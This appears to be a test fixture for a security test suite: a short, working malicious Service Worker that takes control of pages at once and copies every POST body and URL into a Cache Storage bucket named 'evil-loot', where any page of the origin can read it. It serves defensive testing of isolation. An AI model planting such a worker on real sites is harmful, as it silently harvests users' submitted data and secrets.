// A Service Worker a page script registers (e2e/isolation/attacks.spec.ts, review finding R3): it
// needs one same-origin URL that serves the attacker's JavaScript (an upload, JSONP...); this file
// is that URL. It takes control at once and copies the body of every POST a controlled client
// (pages, and the isolation worker) sends into Cache Storage, where any page of the origin reads it.
self.addEventListener('install', () => self.skipWaiting())
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()))
self.addEventListener('fetch', (event) => {
  if (event.request.method !== 'POST') return
  event.respondWith(
    (async () => {
      const body = await event.request.clone().text()
      const loot = await caches.open('evil-loot')
      await loot.put(`/loot/${Date.now()}-${Math.random()}`, new Response(JSON.stringify({ url: event.request.url, body })))
      return fetch(event.request)
    })(),
  )
})
